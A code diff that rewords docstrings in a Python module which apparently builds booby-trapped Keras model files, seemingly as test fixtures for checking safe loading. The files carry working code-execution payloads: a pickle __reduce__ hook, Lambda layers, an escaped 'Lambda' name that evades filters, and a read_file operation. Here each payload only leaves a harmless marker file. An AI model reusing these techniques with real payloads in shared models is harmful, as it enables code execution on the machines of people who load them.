@@ -1,7 +1,7 @@
-"""Writes model files that would run code, or do other harm, where they are opened by Keras without further ado.
+"""Writes model files that run code, or do other harm, if Keras opens them without a check.
 
 Run as a program, in a folder of its own and with eager execution on, it writes them, opens each with plain Keras
-and prints the names of those that left the file `ran` behind: the payloads are real.
+and prints the names of those that left the file `ran` behind: so the payloads are real.
 """
 
 from __future__ import annotations
@@ -31,7 +31,7 @@ def payload(inputs: Any) -> Any:
 
 
 class Pickled:
-    """Leaves the marker behind where it is unpickled."""
+    """Leaves the marker behind when it is unpickled."""
 
     def __reduce__(self) -> tuple:
         return os.open, (MARKER, os.O_CREAT)
@@ -45,7 +45,7 @@ def lambda_layer(name: str = "evil") -> dict[str, Any]:
     """A Lambda layer as Keras writes it."""
     from tensorflow import keras
 
-    if KERAS_3:  # which writes the code of functions without a name alone
+    if KERAS_3:  # writes code only of functions without a name
         touch = 'open("ran", "w")'
         evil = eval(f"lambda inputs: ({touch}, inputs)[1]")
         return entry("Lambda", keras.layers.Lambda(evil, name=name).get_config())
@@ -80,7 +80,7 @@ def functional_of(operation: str) -> dict[str, Any]:
 
 
 def of_keras_3_format(config: Any) -> Any:
-    """The same as Keras writes it into `.keras` files, with the module of each class."""
+    """The same configuration as Keras writes it into `.keras` files, with the module of each class."""
     if isinstance(config, list):
         return [of_keras_3_format(value) for value in config]
     if not isinstance(config, dict):
@@ -103,7 +103,7 @@ def write_h5(path: str | Path, config: str | dict[str, Any], version: str = "2.1
 
 
 def write_keras(path: str | Path, config: dict[str, Any], version: str = KERAS, **entries: bytes) -> None:
-    """A `.keras` file; `entries` are further ones, or others in place of these, by name with __ for the dot."""
+    """Writes a `.keras` file; `entries` are added or replace its own, by name with __ for the dot."""
     buffer = io.BytesIO()
     with h5py.File(buffer, "w"):
         pass
@@ -120,7 +120,7 @@ def write_keras(path: str | Path, config: dict[str, Any], version: str = KERAS, 
 
 
 def write_all() -> None:
-    """All files that run code, into the current folder."""
+    """Writes all files that run code into the current folder."""
     evil = lambda_layer()
     escaped = json.dumps(network(evil)).replace('"Lambda"', r'"\u004cambda"')
     write_h5("lambda.h5", network(evil))
@@ -141,7 +141,7 @@ def write_all() -> None:
     write_keras("pickled.keras", of_keras_3_format(dense), **weights)
     write_h5("operation.h5", entry("Functional", functional_of("io.read_file")))
 
-    if not KERAS_3:  # which reads no SavedModel
+    if not KERAS_3:  # cannot read SavedModels
         write_saved_models(evil)
 
 
@@ -186,7 +186,7 @@ if KERAS_3:
 
 
 def does_harm(name: str, options: dict[str, Any]) -> bool:
-    """Whether a payload is run where a file is opened by plain Keras and its model used."""
+    """Whether a payload runs when plain Keras opens a file and the model is used."""
     import tensorflow as tf
     from tensorflow import keras
 
